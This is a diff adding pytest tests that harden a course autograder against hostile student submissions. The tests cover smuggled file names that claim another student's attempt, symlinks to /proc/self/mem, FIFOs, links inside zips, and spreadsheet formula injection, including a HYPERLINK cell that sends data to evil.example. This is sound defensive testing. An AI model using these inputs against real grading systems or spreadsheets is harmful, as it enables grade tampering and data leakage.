@@ -72,3 +72,175 @@ def test_a_wrong_value_is_shown_whole_whatever_its_type():
     with pytest.raises(GradingFailure) as err:
         assert_equal([np.int64(1), 3], [1, 2], "f()")
     assert str(err.value).startswith("f() is wrong\n  expected: [1, 2]"), str(err.value)
+
+
+# -- LMS names read anchored, never as another student's ------------------------------------------
+import csv  # noqa: E402
+import os  # noqa: E402
+import shutil  # noqa: E402
+import zipfile  # noqa: E402
+from pathlib import Path  # noqa: E402
+
+from grading import gradebook as gb  # noqa: E402
+from grading import lms  # noqa: E402
+from grading.layout import EXERCISES, SOLUTIONS, discover_chapters  # noqa: E402
+from grading.matching import (list_students, match_folder, read_untrusted, submission_digest,  # noqa: E402
+                              unpack_zip, walk_untrusted)
+
+STEM = "01_kv_memory"
+SOLVED, UNSOLVED = SOLUTIONS / f"{STEM}.ipynb", EXERCISES / f"{STEM}.ipynb"
+CHAPTERS = discover_chapters(only=["1"])
+# What a student types as their file's name, after the prefix Blackboard writes for them:
+# a name that, read greedily, is the victim's attempt a year later.
+SMUGGLED = "x_victim_attempt_2027-01-01-00-00-00_01_kv_memory.ipynb"
+
+
+def _copy_into(folder: Path, names: dict[str, Path]) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    for name, source in names.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        shutil.copyfile(source, folder / name)
+    return folder
+
+
+def test_a_name_smuggling_another_student_s_later_attempt_is_not_theirs(tmp_path):
+    folder = _copy_into(tmp_path / "bb", {
+        "HW1_victim_attempt_2026-12-01-10-00-00_01_kv_memory.ipynb": SOLVED,
+        f"HW1_mallory_attempt_2026-12-01-11-00-00_{SMUGGLED}": UNSOLVED})
+    assert lms.parse_name(f"HW1_mallory_attempt_2026-12-01-11-00-00_{SMUGGLED}") is None
+    first = lms.readings(f"HW1_mallory_attempt_2026-12-01-11-00-00_{SMUGGLED}")[0]
+    assert (first.student, first.attempt.year) == ("mallory", 2026)  # the uploader reads first
+    found, taken = lms.gather(folder, tmp_path / "scratch")
+    got = {s.name: s for s in found}
+    assert sorted(got) == ["mallory", "victim"] and len(taken) == 2
+    victim = match_folder("victim", got["victim"].folder, CHAPTERS)
+    assert victim.notebooks[STEM].read_bytes() == SOLVED.read_bytes() and not got["victim"].problems
+    assert not match_folder("mallory", got["mallory"].folder, CHAPTERS).notebooks  # graded as no one's
+    assert "reads as more than one LMS name" in got["mallory"].problems[0]
+
+
+def test_a_name_that_reads_as_two_layouts_goes_to_review(tmp_path):
+    # Canvas's prefix, then a file name that Blackboard reads as the victim's attempt.
+    name = f"mallory_111_222_{SMUGGLED}"
+    assert [r.lms for r in lms.readings(name)] == ["canvas", "blackboard"]
+    assert lms.parse_name(name) is None
+    # Moodle's prefix repeated inside the file name: two participants.
+    assert len(lms.readings("Mallory_7_assignsubmission_file_x_8_assignsubmission_file_01_kv_memory.ipynb")) == 2
+    # Ordinary names read one way only.
+    for plain in ("smithalice_12345_678901_01_kv_memory.ipynb", "Alice Smith_12345_assignsubmission_file_",
+                  "HW_1_alice.smith_attempt_2026-12-01-10-00-00_01_kv_memory.ipynb"):
+        assert len(lms.readings(plain)) == 1, plain
+    assert lms.parse_name("smithalice_12345_678901_01_kv_memory.ipynb\n") is None  # anchored at the very end
+
+
+def test_no_canvas_id_is_written_twice(tmp_path):
+    roster = [gb.Student("333", "Victim, Vera"), gb.Student("111", "Mallory, Max")]
+    rows = [gb.Row("victim", STEM, "1.1", 22, 22, gb.PASSED), gb.Row("victim_bb", STEM, "1.1", 0, 22, gb.FAILED),
+            gb.Row("mallory", STEM, "1.1", 0, 22, gb.FAILED)]
+    matched = {"victim": roster[0], "victim_bb": roster[0], "mallory": roster[1]}
+    path, problems = gb.write_canvas(tmp_path, rows, roster, matched)
+    ids = [r["ID"] for r in csv.DictReader(path.open(newline="", encoding="utf-8"))][1:]
+    assert ids == ["111"], ids
+    assert any("333 is left out" in p and "victim, victim_bb" in p for p in problems), problems
+
+
+# -- submissions read as untrusted files --------------------------------------------------------
+def _hostile_folder(folder: Path) -> Path:
+    folder.mkdir(parents=True)
+    shutil.copyfile(SOLVED, folder / f"{STEM}.ipynb")
+    (folder / "mem").symlink_to("/proc/self/mem")
+    (folder / "deep" / "er").mkdir(parents=True)
+    (folder / "deep" / "er" / "mem.ipynb").symlink_to("/proc/self/mem")
+    os.mkfifo(folder / "deep" / "pipe.ipynb")
+    (folder / "solutions").symlink_to(SOLUTIONS)  # a link to a folder is not entered
+    return folder
+
+
+@pytest.mark.timeout(20)  # a FIFO opened for reading would block here forever
+def test_the_walk_never_follows_a_link_or_opens_a_fifo(tmp_path):
+    folder = _hostile_folder(tmp_path / "s")
+    files, others = walk_untrusted(folder)
+    assert files == [folder / f"{STEM}.ipynb"]
+    assert {p.name for p, _ in others} == {"mem", "mem.ipynb", "pipe.ipynb", "solutions"}
+    digest = submission_digest(folder)  # it used to read /proc/self/mem and raise
+    assert digest == submission_digest(folder)
+    sub = match_folder("s", folder, CHAPTERS)
+    assert sub.notebooks[STEM] == folder / f"{STEM}.ipynb"
+    why = dict(sub.unmatched)
+    assert "is a link" in why["deep/er/mem.ipynb"] and "not a regular file" in why["deep/pipe.ipynb"], why
+    for bad in ("mem", "deep/pipe.ipynb"):
+        with pytest.raises(OSError):
+            read_untrusted(folder / bad)
+
+
+@pytest.mark.timeout(20)
+def test_a_link_or_fifo_handed_in_as_the_whole_submission_is_not_opened(tmp_path):
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    (subs / "alice").symlink_to(SOLUTIONS)
+    os.mkfifo(subs / "bob.zip")
+    (subs / "carol.zip").symlink_to("/proc/self/mem")
+    from grading.batch import open_submission
+
+    students, _ = list_students(subs)
+    for student, entry in students:
+        submission_digest(entry)
+        sub = open_submission(student, entry, CHAPTERS, tmp_path / "scratch")
+        assert not sub.notebooks and "it is not graded" in sub.problem, (student, sub)
+    assert "not a regular file" in unpack_zip(subs / "bob.zip", tmp_path / "unzipped")
+
+
+@pytest.mark.timeout(20)
+def test_a_moodle_folder_is_copied_without_following_its_links(tmp_path):
+    folder = tmp_path / "moodle"
+    _hostile_folder(folder / "Mallory Max_7_assignsubmission_file_")
+    (folder / "Mallory Max_7_assignsubmission_file_" / f"{STEM}.ipynb").unlink()
+    (folder / "Mallory Max_7_assignsubmission_file_" / f"{STEM}.ipynb").symlink_to(SOLVED)
+    # A flat file beside the folder: the folder is copied, not used as it is.
+    shutil.copyfile(UNSOLVED, folder / "Mallory Max_7_assignsubmission_file_notes.ipynb")
+    found, _ = lms.gather(folder, tmp_path / "scratch")
+    (mallory,) = found
+    copied, others = walk_untrusted(mallory.folder)
+    assert not others and all(p.read_bytes() != SOLVED.read_bytes() for p in copied)
+    assert any("is a link" in p and f"{STEM}.ipynb" in p for p in mallory.problems), mallory.problems
+    assert any("not a regular file" in p for p in mallory.problems), mallory.problems
+
+
+def test_a_link_inside_a_zip_is_refused(tmp_path):
+    path = tmp_path / "z.zip"
+    with zipfile.ZipFile(path, "w") as zf:
+        info = zipfile.ZipInfo(f"{STEM}.ipynb")
+        info.external_attr = 0o120777 << 16
+        zf.writestr(info, "/proc/self/mem")
+    assert "is a link" in unpack_zip(path, tmp_path / "out")
+    assert not (tmp_path / "out").exists()
+
+
+# -- CSV cells that are formulas --------------------------------------------------------------------
+@pytest.mark.parametrize("text, cell", [
+    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'), ("+1+2", "'+1+2"), ("-cmd", "'-cmd"),
+    ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("'plain", "''plain"),
+    ("-2.5", "-2.5"), ("+3", "+3"), ("-1e3", "-1e3"), ("12", "12"), ("alice", "alice"), ("", ""),
+])
+def test_a_formula_cell_is_quoted_and_a_number_stays_a_number(text, cell):
+    assert gb.csv_cell(text) == cell
+    assert gb.csv_value(cell) == text
+
+
+def test_every_csv_the_gradebook_writes_is_escaped_and_reads_back(tmp_path):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = [gb.Row(evil, STEM, "1.1", 2, 4, gb.FAILED, "-1 for a late day"),
+            gb.Row(evil, STEM, "1.2", -1.5, 4, gb.OVERRIDDEN, "@instructor: penalty")]
+    roster = [gb.Student("+42", evil, "=a@b.c")]
+    book = gb.Gradebook(tmp_path, resume=False)
+    book.add(evil, STEM, rows)
+    book.finish()
+    gb.write_wide(tmp_path, rows, roster, {evil: roster[0]})
+    gb.write_canvas(tmp_path, rows, roster, {evil: roster[0]})
+    for name in ("gradebook.csv", ".graded.csv", "gradebook_wide.csv", "gradebook_canvas.csv"):
+        cells = [c for row in csv.reader((tmp_path / name).open(newline="", encoding="utf-8")) for c in row]
+        assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r")) or
+                    (c.startswith(("+", "-")) and not gb.PLAIN_NUMBER.fullmatch(c))], (name, cells)
+        assert "-1.5" in cells or name in ("gradebook_canvas.csv", "gradebook_wide.csv"), (name, cells)
+    again = gb.Gradebook(tmp_path, resume=True)  # --resume reads the escaped file back as it was
+    assert [(r.student, r.points, r.message) for r in again.rows] == [(r.student, r.points, r.message) for r in rows]
